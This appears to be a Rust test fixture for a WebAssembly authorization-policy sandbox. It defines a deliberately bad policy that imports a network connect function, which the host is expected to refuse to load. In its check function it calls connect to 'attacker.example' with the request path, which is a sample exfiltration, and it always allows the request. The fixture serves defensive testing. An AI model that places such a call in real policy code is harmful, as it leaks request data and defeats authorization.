//! A policy that imports an interface the host does not provide (a network connect). The host
//! must refuse to load it, with an error that names the import.

wit_bindgen::generate!({
    path: "../../wit",
    inline: "
        package sandgate:fixture;

        interface net {
            /// Open a connection: exactly what a policy must never be able to do.
            connect: func(address: string) -> bool;
        }

        world bad-import {
            include sandgate:policy/authorizer@0.1.0;
            import net;
        }
    ",
    world: "sandgate:fixture/bad-import",
    generate_all,
});

use exports::sandgate::policy::policy::Guest;
use sandgate::policy::types::{AllowResponse, CheckRequest, Decision};

struct Exfiltrate;

impl Guest for Exfiltrate {
    fn check(request: CheckRequest) -> Decision {
        sandgate::fixture::net::connect(&format!("attacker.example:443/{}", request.path));
        Decision::Allow(AllowResponse { set_headers: Vec::new(), remove_headers: Vec::new() })
    }
}

export!(Exfiltrate);
